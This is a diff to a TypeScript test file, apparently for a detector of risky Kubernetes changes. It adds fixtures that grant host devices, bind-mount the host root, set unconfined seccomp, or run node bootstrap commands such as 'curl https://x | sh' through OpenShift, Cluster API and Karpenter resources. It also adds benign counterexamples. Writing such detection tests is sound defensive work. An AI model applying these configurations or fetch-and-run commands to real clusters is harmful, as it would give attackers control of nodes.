@@ -16,6 +16,9 @@ const policy = (patch: string): Change =>
     `apiVersion: kyverno.io/v1\nkind: ClusterPolicy\nmetadata: {name: x}\nspec:\n  rules:\n  - name: m\n    match: {any: [{resources: {kinds: [Pod]}}]}\n    mutate: {patchStrategicMerge: ${patch}}\n`,
   );
 
+const annotatedPod = (annotations: Readonly<Record<string, string>>): Change =>
+  object('v1', 'Pod', { containers: [{ name: 'web', image: 'nginx:1.31' }] }, { metadata: { name: 'a', annotations } });
+
 /** What the operator of a custom resource, an injector or a policy gives to containers, by where it stands. */
 const attacks: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
   'settings in fields that only an operator knows': {
@@ -122,6 +125,43 @@ const attacks: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
       `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {p: ${JSON.stringify(JSON.stringify(pod)).replaceAll('privileged', 'priv\\u0069leged')}}\n`,
     ),
   },
+  'annotations that the runtime hears': {
+    'devices of NRI': annotatedPod({ 'devices.nri.io/container.web': '- {path: /dev/sda, type: b, major: 8, minor: 0}' }),
+    'mounts of NRI, by their newer name': annotatedPod({ 'mounts.noderesource.dev/pod': '- {source: /, destination: /host, type: bind}' }),
+    'devices of CRI-O': annotatedPod({ 'io.kubernetes.cri-o.Devices': '/dev/sda' }),
+    'system calls of CRI-O': annotatedPod({ 'seccomp-profile.kubernetes.cri-o.io/web': 'unconfined' }),
+  },
+  'devices of the node': {
+    'a disk for a virtual machine': object('kubevirt.io/v1', 'VirtualMachineInstance', {
+      domain: { devices: {} },
+      volumes: [{ name: 'a', hostDisk: { path: '/dev/sda', type: 'Disk' } }],
+    }),
+    'those of others, by a claim': object('resource.k8s.io/v1', 'ResourceClaim', {
+      devices: { requests: [{ name: 'a', exactly: { deviceClassName: 'gpu', adminAccess: true } }] },
+    }),
+    'those of others, by a template of claims': object('resource.k8s.io/v1beta1', 'ResourceClaimTemplate', {
+      spec: { devices: { requests: [{ name: 'a', deviceClassName: 'gpu', adminAccess: true }] } },
+    }),
+  },
+  'what nodes run outside of containers': {
+    'units of OpenShift': object('machineconfiguration.openshift.io/v1', 'MachineConfig', {
+      config: {
+        systemd: { units: [{ name: 'x.service', enabled: true, contents: '[Service]\nExecStart=/bin/sh -c "curl https://x | sh"\n' }] },
+      },
+    }),
+    'files of OpenShift': object('machineconfiguration.openshift.io/v1', 'MachineConfig', {
+      config: { storage: { files: [{ path: '/etc/cron.d/x', contents: { source: 'data:,x' } }] } },
+    }),
+    'commands of Cluster API': object('bootstrap.cluster.x-k8s.io/v1beta1', 'KubeadmConfigTemplate', {
+      template: { spec: { preKubeadmCommands: ['curl https://x | sh'] } },
+    }),
+    'commands of a control plane': object('controlplane.cluster.x-k8s.io/v1beta1', 'KubeadmControlPlane', {
+      kubeadmConfigSpec: { postKubeadmCommands: ['id'] },
+    }),
+    'an upgrade of Rancher': object('upgrade.cattle.io/v1', 'Plan', { upgrade: { image: 'x/y', command: ['sh'] } }),
+    'a start of Karpenter': object('karpenter.k8s.aws/v1', 'EC2NodeClass', { userData: '#!/bin/sh\ncurl https://x | sh\n' }),
+    'a hook of kOps': object('kops.k8s.io/v1alpha2', 'InstanceGroup', { hooks: [{ manifest: 'ExecStart=/bin/sh' }] }),
+  },
   'policies that mutate, however they are written': {
     'behind an alias': added(
       'x: &s {privileged: true}\napiVersion: kyverno.io/v1\nkind: ClusterPolicy\nmetadata: {name: x}\nspec:\n  rules:\n  - name: m\n    mutate: {patchStrategicMerge: {spec: {containers: [{(name): "*", securityContext: *s}]}}}\n',
@@ -183,6 +223,19 @@ describe('what only names such settings stays quiet', () => {
       ),
       'a schema': object('apiextensions.k8s.io/v1', 'CustomResourceDefinition', {
         versions: [{ schema: { openAPIV3Schema: { properties: { privileged: { type: 'boolean', default: true } } } } }],
+      }),
+      'a disk of a virtual machine that is an image': object('kubevirt.io/v1', 'VirtualMachineInstance', {
+        domain: { devices: {} },
+        volumes: [{ name: 'a', hostDisk: { path: '/data/disk.img', type: 'DiskOrCreate' } }],
+      }),
+      'devices of one’s own': object('resource.k8s.io/v1', 'ResourceClaim', {
+        devices: { requests: [{ name: 'a', exactly: { deviceClassName: 'gpu', adminAccess: false } }] },
+      }),
+      'nodes of which nothing is run': object('karpenter.k8s.aws/v1', 'EC2NodeClass', { amiFamily: 'AL2023', role: 'a' }),
+      'a pool of machines': object('machineconfiguration.openshift.io/v1', 'MachineConfigPool', { paused: false }),
+      'annotations of runtimes that give nothing': annotatedPod({
+        'io.kubernetes.cri-o.ShmSize': '1Gi',
+        'seccomp-profile.kubernetes.cri-o.io': 'runtime/default',
       }),
       'what is allowed': object('policy/v1beta1', 'PodSecurityPolicy', { hostNetwork: true }),
     }),
